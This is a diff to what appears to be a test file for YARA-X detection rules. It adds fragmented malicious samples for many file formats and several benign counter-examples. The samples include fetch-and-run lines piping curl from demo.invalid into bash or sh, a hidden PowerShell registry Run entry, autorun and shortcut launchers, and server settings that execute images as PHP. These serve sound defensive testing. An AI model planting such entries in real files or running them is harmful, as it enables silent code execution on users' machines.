@@ -321,6 +321,48 @@ SAMPLES: list[tuple[str, bytes]] = [
         "picture_with_remote_script",
         glue("<svg xmlns='x'><scr", "ipt>window.loca", "tion.href = ato", "b('aHR0cA==')</script></svg>"),
     ),
+    ("setup_information_runs_program", glue("[Default", "Install]\r\nRunPre", "SetupCommands=demo\r\n")),
+    ("setup_information_runs_program", glue("[auto", "run]\r\nop", "en=demo\\demo.exe\r\n")),
+    ("icon_from_share", glue("[Sh", "ell]\nIcon", "File=\\\\192.0.2.1\\demo\\demo.ico\n")),
+    ("icon_from_share", glue("[.ShellClass", "Info]\r\nIconRes", "ource=\\\\demo.invalid\\a\\a.ico,1\r\n")),
+    ("internet_shortcut_starts_program", glue("[Internet", "Shortcut]\r\nURL=fi", "le://192.0.2.1/demo/demo.js\r\n")),
+    (
+        "desktop_entry_fetches_code",
+        glue("[Desktop ", "Entry]\nExec=sh -c 'cu", "rl http://demo.invalid/a | b", "ash'\n"),
+    ),
+    ("desktop_entry_fetches_code", glue("[Desktop ", "Entry]\nExec=sh -c 'echo QQ== | base", "64 -d | b", "ash'\n")),
+    ("spreadsheet_text_runs_program", glue("ID;P\nC;X1;Y101;K0;EEX", 'EC("demo.exe")\nE\n')),
+    ("query_of_office_fetches_page", glue("WE", "B\r\n1\r\nhttp://demo.invalid/demo.htm\r\n")),
+    ("search_opens_share", glue("<library", "Description><url>", "\\\\demo.invalid\\demo</url>")),
+    (
+        "settings_shortcut_starts_program",
+        glue("<PCSet", "tings><Deep", "Link>%windir%\\system32\\cm", "d.exe /c demo</DeepLink>"),
+    ),
+    (
+        "console_file_runs_script",
+        glue("<MMC_Console", "File><String>res://ap", "ds.dll/redirect.html?target=demo</String>"),
+    ),
+    (
+        "style_sheet_runs_script",
+        glue("<xsl:style", "sheet><ms:scr", "ipt language='JScript'>new ActiveXObject('WScr", "ipt.Shell')"),
+    ),
+    (
+        "project_compiles_and_injects",
+        glue("<Using", "Task TaskFactory='CodeTask", "Factory'><Code Type='Class'>Virtual", "Alloc(0)</Code>"),
+    ),
+    (
+        "registry_file_starts_script",
+        glue("REGED", "IT4\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\Current", "Version\\Run]\r\n")
+        + glue('"demo"="power', "shell -w hid", 'den demo"\r\n'),
+    ),
+    ("server_settings_run_other_files", glue("AddType application/x-httpd-", "php .jpg\n")),
+    ("server_settings_run_other_files", glue("auto_prep", "end_file=demo.png\n")),
+    (
+        "server_settings_carry_page",
+        glue("<system.web", "Server><handlers><add name='x' path='*.con", "fig' scriptProcessor='asp", ".dll'/>"),
+    ),
+    ("source_hides_in_encoding", glue("#!/usr/bin/python\n# -*- cod", "ing: utf", "_7 -*-\n")),
+    ("editor_runs_task_by_itself", glue('{"runOn": "folder', 'Open", "command": "cu', 'rl http://demo.invalid | sh"}')),
 ]
 
 
@@ -370,6 +412,12 @@ def test_every_rule_says_what_why_and_who(rules: yara_x.Rules) -> None:
         b'Set shell = CreateObject("WScript.Shell")\nshell.Run "notepad.exe"',
         b"import socket\ns.connect((host, port))\ns.sendall(b'hello')",
         b"exec(open('version.py').read())",
+        b"[autorun]\r\nopen=setup.exe\r\nicon=setup.exe,0\r\n",
+        b"[InternetShortcut]\r\nURL=https://example.org/download/setup.exe\r\nIconFile=C:\\a.ico\r\n",
+        b"[Desktop Entry]\nExec=sh -c 'curl --help | less'\n",
+        b'ID;PWXL;N;E\nC;Y1;X1;K"EXEC(1)"\nE\n',
+        b"# -*- coding: utf-8 -*-\n# what is no encoding is utf-7\n",
+        b"AddType application/x-httpd-php .php .phtml\n",
         b"exec(compile(source, '<string>', 'exec'))",
         b"from setuptools import setup\nsetup(name='demo', cmdclass={'build_ext': build_ext})",
         b"curl -fsSL https://example.org/install.sh | bash",
